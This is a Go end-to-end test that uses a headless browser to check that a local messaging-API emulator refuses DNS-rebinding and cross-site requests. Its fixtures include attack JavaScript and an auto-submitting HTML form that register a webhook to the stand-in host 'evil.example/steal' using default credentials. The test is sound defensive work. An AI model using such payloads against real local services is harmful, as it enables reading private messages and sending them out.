package e2e

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// rebindName is the attacker's name, which the browser resolves to
// 127.0.0.1 (as after a DNS rebinding) through --host-resolver-rules.
const rebindName = "rebind.evil.test"

// TestBrowserCannotDriveTheEmulator: a real browser, on pages the developer
// might visit, against the emulator binary with its public default
// credentials.
//
//   - DNS rebinding: a page on rebind.evil.test:<emulator port>, whose name
//     now resolves to 127.0.0.1, sends same-origin requests with the
//     default credentials: reads and writes of /v1/ are refused.
//   - Cross-site: a page on another origin posts a form and a fetch to
//     /v1/: refused.
//   - Opening the printed base URL shows the inspector's sign-in, no
//     browser password prompt.
//
// The exported state is the same before and after.
func TestBrowserCannotDriveTheEmulator(t *testing.T) {
	browser := findBrowser(t)
	emu := startEmulator(t)
	conv := restPost(t, emu.baseURL, "/v1/Conversations", "FriendlyName=private")["sid"].(string)
	restPost(t, emu.baseURL, "/v1/Conversations/"+conv+"/Messages", "Author=alice&Body=the+secret")
	before := restGet(t, emu.baseURL+"/_emulator/state")

	page := openBrowserWith(t, browser, chromedp.Flag("host-resolver-rules", "MAP "+rebindName+" 127.0.0.1"))
	port := emu.baseURL[strings.LastIndex(emu.baseURL, ":")+1:]

	// DNS rebinding: the page's origin is the attacker's name on the
	// emulator's port; its same-origin requests reach the emulator.
	rebound := "http://" + rebindName + ":" + port
	require.NoError(t, chromedp.Do(page, chromedp.Navigate(rebound+"/_emulator/health"))) // any page of that origin
	auth := "Basic " + base64.StdEncoding.EncodeToString([]byte(defaultSID+":"+defaultToken))
	script := fmt.Sprintf(`(async () => {
		const h = {Authorization: %q, 'Content-Type': 'application/x-www-form-urlencoded'};
		const out = [];
		for (const [method, path, body] of [
			['GET', '/v1/Conversations/%s/Messages'],
			['POST', '/v1/Configuration/Webhooks', 'PostWebhookUrl=https%%3A%%2F%%2Fevil.example%%2Fsteal&Filters=onMessageAdded'],
			['POST', '/v1/Conversations', 'FriendlyName=planted'],
			['GET', '/_emulator/state'],
		]) {
			const res = await fetch(path, {method, headers: h, body});
			out.push(method + ' ' + path + ' ' + res.status + ' ' + (await res.text()).slice(0, 200));
		}
		return out;
	})()`, auth, conv)
	got, err := chromedp.Run(page, chromedp.Evaluate[[]string](script, chromedp.EvalAsValue, chromedp.EvalAwaitPromise))
	require.NoError(t, err)
	require.Len(t, got, 4)
	for _, line := range got {
		assert.Contains(t, line, " 403 ", line)
		assert.NotContains(t, line, "the secret")
	}

	// Cross-site: a page on another origin posts a form (what a browser
	// sends with cached credentials, were there any) and a fetch.
	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprintf(w, `<!doctype html><html><body>
<form id="f" method="POST" action="%s/v1/Configuration/Webhooks">
<input name="PostWebhookUrl" value="https://evil.example/steal"><input name="Filters" value="onMessageAdded"></form>
<script>
// After the load event (so the test's Navigate has returned), a fetch, then the form post.
window.addEventListener('load', () => setTimeout(() =>
  fetch(%q, {method: 'POST', mode: 'no-cors', body: new URLSearchParams('FriendlyName=planted')})
    .finally(() => document.getElementById('f').submit()), 100));
</script>
</body></html>`, emu.baseURL, emu.baseURL+"/v1/Conversations")
	}))
	defer evil.Close()
	require.NoError(t, chromedp.Do(page, chromedp.Navigate(evil.URL)))
	var body string
	deadline := time.Now().Add(20 * time.Second)
	for !strings.Contains(body, "20403") && time.Now().Before(deadline) {
		// The page navigates away when the form is posted: an evaluation
		// may land between the two documents and fail; try again.
		body, _ = chromedp.Run(page, chromedp.Evaluate[string](`location.href.endsWith('/v1/Configuration/Webhooks') ? document.body.innerText : ''`))
		time.Sleep(50 * time.Millisecond)
	}
	assert.Contains(t, body, "20403", "the form post is refused: %s", body)

	assert.Equal(t, before, restGet(t, emu.baseURL+"/_emulator/state"), "the pages changed the emulator's state")
	assert.NotContains(t, restGet(t, emu.baseURL+"/v1/Configuration/Webhooks"), "evil.example")

	// The printed base URL leads to the inspector's own sign-in form.
	require.NoError(t, chromedp.Do(page, chromedp.Navigate(emu.baseURL+"/")))
	waitFor(t, page, "the inspector at the base URL", `location.pathname === '/_emulator/ui/' && document.readyState === 'complete'`)
	require.NoError(t, emu.stop())
}

func restPost(t *testing.T, base, path, form string) map[string]any {
	t.Helper()
	req, err := http.NewRequest("POST", base+path, strings.NewReader(form))
	require.NoError(t, err)
	req.SetBasicAuth(defaultSID, defaultToken)
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	var out map[string]any
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&out))
	require.Equal(t, 201, resp.StatusCode, "%v", out)
	return out
}

func restGet(t *testing.T, url string) string {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	require.NoError(t, err)
	req.SetBasicAuth(defaultSID, defaultToken)
	c := &http.Client{Timeout: 10 * time.Second}
	resp, err := c.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	require.Equal(t, 200, resp.StatusCode, "%s", b)
	return string(b)
}
